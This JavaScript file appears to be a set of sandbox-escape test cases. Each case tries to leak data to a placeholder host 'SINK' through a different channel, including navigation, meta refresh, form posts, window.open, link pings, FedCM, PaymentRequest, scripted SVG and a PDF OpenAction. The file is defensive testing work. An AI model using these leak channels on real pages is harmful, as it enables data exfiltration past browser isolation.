// 10-14: leaving the page, forms, windows, and what asks the browser itself to fetch.
const go = (id, name, js, more = {}) => ({ id, name, js: `try { ${js} } catch (e) { void e; } ran();`, ...more });
const click = (html) => `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(html)}); document.body.lastElementChild.click();`;
const submit = (html) => `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(html)}); const form = document.body.lastElementChild; form.requestSubmit(form.querySelector("button"));`;
const PDF = "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://SINK/x)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF";

export default [
  go("10.location", "location = elsewhere", `location = "http://SINK/?secret";`),
  go("10.location.tls", "location = elsewhere over TLS", `location.replace("https://SINK/?secret");`),
  go("10.navigation-api", "navigation.navigate", `navigation.navigate("http://SINK/x");`),
  { id: "10.meta-refresh", name: "meta refresh", head: `<meta http-equiv="refresh" content="3; url=http://SINK/x">`, js: "ran();", wait: 3500 },
  go("10.meta-refresh.script", "meta refresh added by script", `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv=refresh content="0; url=http://SINK/x">');`),
  go("10.link", "a link that is clicked", click(`<a href="http://SINK/x">x</a>`)),
  go("10.base", "base and a relative image and link", `document.head.insertAdjacentHTML("beforeend", '<base href="http://SINK/">'); new Image().src = "x.png"; ${click(`<a href="y">y</a>`)}`),
  go("10.frame-navigates", "a frame of its own goes elsewhere", `const f = addFrame({ src: "about:blank" }); f.contentWindow.location = "http://SINK/x";`),
  go("10.frame-refresh", "meta refresh in srcdoc", `addFrame({ srcdoc: '<meta http-equiv=refresh content="0; url=http://SINK/x">' });`),
  go("10.svg-link", "a link in SVG", `document.body.insertAdjacentHTML("beforeend", '<svg><a href="http://SINK/x"><text y="9">x</text></a></svg>'); document.querySelector("svg a").dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));`),

  go("11.form.get", "form, GET", submit(`<form action="http://SINK/x"><input name="q" value="secret"><button></button></form>`)),
  go("11.form.post", "form, POST", submit(`<form method="post" action="http://SINK/x"><input name="q" value="secret"><button></button></form>`)),
  go("11.form.formaction", "formaction of a button", submit(`<form action="index.html"><button formaction="https://SINK/x"></button></form>`)),
  go("11.form.top", "form into the whole window", submit(`<form action="http://SINK/x" target="_top"><button></button></form>`), { top: true }),
  go("11.form.parent", "form into the parent", submit(`<form action="http://SINK/x" target="_parent"><button></button></form>`), { top: true }),
  go("11.form.frame", "form into a frame of its own", `addFrame({ name: "there" }); ${submit(`<form action="http://SINK/x" target="there"><button></button></form>`)}`),
  go("11.form.blank", "form into a new window", submit(`<form action="http://SINK/x" target="_blank"><button></button></form>`)),

  go("12.open", "window.open", `window.open("http://SINK/x");`),
  go("12.open.noopener", "window.open without opener", `window.open("http://SINK/x", "_blank", "noopener");`),
  go("12.open.blank", "window.open of about:blank, written to", `const w = window.open(""); w.document.write('<img src="http://SINK/x.png">');`),
  go("12.open.self", "window.open of an own page without a fence", `window.open("leak.html");`, { files: { "leak.html": `<script>location = "http://SINK/x"</script>` } }),
  go("12.link.blank", "link into a new window", click(`<a href="http://SINK/x" target="_blank">x</a>`)),
  go("12.link.ping", "ping of a link", click(`<a href="#x" ping="http://SINK/ping">x</a>`)),
  go("12.link.download", "link with download", click(`<a href="http://SINK/x" download>x</a>`)),
  go("12.link.attribution", "attributionsrc of a link and of an image", `document.body.insertAdjacentHTML("beforeend", '<img attributionsrc="http://SINK/a" src="http://SINK/i.png">');`),

  go("13.top", "top.location without a click", `top.location = "http://SINK/x";`, { top: true }),
  go("13.parent", "parent.location without a click", `parent.location.replace("http://SINK/x");`, { top: true }),
  go("13.link.top", "link into the whole window", click(`<a href="http://SINK/x" target="_top">x</a>`), { top: true }),
  go("13.open.top", "window.open into the whole window", `window.open("http://SINK/x", "_top");`, { top: true }),

  go("14.fedcm", "FedCM", `navigator.credentials.get({ identity: { providers: [{ configURL: "https://SINK/fedcm.json", clientId: "x" }] } }).catch(() => {});`, { top: true }),
  go("14.payment", "PaymentRequest", `new PaymentRequest([{ supportedMethods: "https://SINK/pay" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment().catch(() => {});`, { top: true }),

  { id: "16.svg", name: "SVG of the package with a script, framed", js: `addFrame({ src: "x.svg" }); await later(500); ran();`, files: { "x.svg": `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://SINK/x", { mode: "no-cors" })</script><image href="http://SINK/y.png" width="9" height="9"/></svg>` } },
  { id: "16.xml", name: "XML of the package with a stylesheet from outside", js: `addFrame({ src: "x.xml" }); await later(500); ran();`, files: { "x.xml": `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="http://SINK/x.css"?><html xmlns="http://www.w3.org/1999/xhtml"><body><img src="http://SINK/y.png"/></body></html>` } },
  { id: "16.unknown", name: "HTML under an unknown type", js: `addFrame({ src: "x.unknown" }); addFrame({ src: "noextension" }); await later(500); ran();`, files: { "x.unknown": `<!doctype html><html><img src="http://SINK/x.png"></html>`, noextension: `<!doctype html><html><img src="http://SINK/y.png"></html>` } },
  { id: "16.xhtml", name: "XHTML of the package", js: `addFrame({ src: "x.xhtml" }); addFrame({ src: "x.htm" }); await later(500); ran();`, files: { "x.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="http://SINK/x.png"/></body></html>`, "x.htm": `<img src="http://SINK/y.png">` } },
  { id: "16.pdf", name: "PDF of the package in the browser's viewer", stolen: true, js: `const e = document.createElement("embed"); e.src = "x.pdf"; e.type = "application/pdf"; document.body.append(e); const o = await fetch("x.pdf"); stolen((o.headers.get("content-type") || "").includes("pdf"), o.headers.get("content-type"));`, files: { "x.pdf": PDF } },
];
